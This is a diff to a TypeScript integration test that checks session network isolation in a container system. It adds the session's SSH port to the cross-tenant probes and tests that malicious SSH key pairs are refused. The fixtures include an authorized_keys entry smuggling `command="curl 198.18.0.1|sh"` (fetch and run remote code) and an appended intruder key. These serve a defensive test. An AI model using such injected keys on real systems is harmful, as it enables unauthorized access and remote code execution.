@@ -7,8 +7,10 @@
  * session bridge's gateway, the kernel network's gateway, the host's
  * addresses; the agent's RPC port with `--bind-host *` and a listener of
  * the test on every address). Each attempt fails, while the kernels of the
- * session reach each other on any port (the runner's 2000 included), and
- * the other session and the plain kernel cannot come in either.
+ * session reach each other on any port (the runner's 2000 and the
+ * session's sshd on 2200 included), and the other session and the plain
+ * kernel cannot come in either. A manager's hostile key pair is refused
+ * before anything is made.
  */
 import { expect } from 'chai';
 import { execFileSync } from 'node:child_process';
@@ -17,7 +19,7 @@ import { modernMethods } from '../../src/rpc/modern-methods.js';
 import { kernelNetworkName } from '../../src/containers/kernel-network.js';
 import { freePort, kernelIds, onCleanup, remoteError, requireEtcd, startAgent, uniqueName } from '../helpers/env.js';
 import { ModernManager } from '../helpers/modern-manager.js';
-import { addressOn, createSession, newSession, py, squareServer, type TestSession } from '../helpers/sessions.js';
+import { addressOn, createSession, managerKeypair, newSession, py, squareServer, type TestSession } from '../helpers/sessions.js';
 import { hostAddresses, hostListener, probeCode } from '../helpers/host-probe.js';
 
 describe('session networks: a session is a tenant', function () {
@@ -54,12 +56,13 @@ describe('session networks: a session is a tenant', function () {
 
     const hosts = [...new Set([sub1.gateway, other.gateway, kernel.gateway, ...hostAddresses()])];
     const attacks: Array<[string, number]> = [
-      ...[other.ip, kernel.ip].flatMap((ip) => [7000, 2000].map((p): [string, number] => [ip, p])),
+      ...[other.ip, kernel.ip].flatMap((ip) => [7000, 2000, 2200].map((p): [string, number] => [ip, p])),
       ...hosts.flatMap((h) => [t.port, listener.port].map((p): [string, number] => [h, p])),
     ];
     const within: Array<[string, number]> = [
       ['sub1', 7000],
       ['sub1', 2000],
+      ['sub1', 2200],
       [sub1.ip, 7000],
     ];
     // A port where nothing listens on the node, probed on each host address: it opens only for a connection that left
@@ -83,6 +86,7 @@ describe('session networks: a session is a tenant', function () {
     const inbound: Array<[string, number]> = [
       [sub1.ip, 7000],
       [sub1.ip, 2000],
+      [sub1.ip, 2200],
     ];
     for (const [s, who] of [
       [b, 'another session'],
@@ -115,6 +119,25 @@ describe('session networks: a session is a tenant', function () {
       expect(removed.message, `destroy_local_network(${name})`).to.match(/ParametersError/);
     }
     expect(await kernelIds(t.client), 'no kernel was made').to.deep.equal([]);
+
+    // A key pair that would put more than one key, or options, into the kernels' authorized_keys, or is no key at all.
+    const good = managerKeypair();
+    const s = newSession(['main1', 'sub1']);
+    await m.client.call(modernMethods.create_local_network, s.network);
+    for (const bad of [
+      { ...good, public_key: `${good.public_key}\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0ZW50YXRpdmU= intruder` },
+      { ...good, public_key: `command="curl 198.18.0.1|sh" ${good.public_key}` },
+      { ...good, public_key: 'x'.repeat(20_000) },
+      { ...good, private_key: `${good.private_key}\n#!/bin/sh\n` },
+      { ...good, private_key: 42 },
+      { public_key: good.public_key },
+      'a key',
+    ]) {
+      const refused = await remoteError(createSession(m, s, {}, s.network, bad as Record<string, unknown>));
+      expect(refused.message, JSON.stringify(bad).slice(0, 120)).to.match(/ParametersError.*cluster_info ssh_keypair/);
+    }
+    expect(await kernelIds(t.client), 'no kernel was made').to.deep.equal([]);
+    await m.client.call(modernMethods.destroy_local_network, s.network);
     const still = (await docker.getNetwork(foreign).inspect()) as { Name: string };
     expect(still.Name, 'the foreign network is left alone').to.equal(foreign);
   });
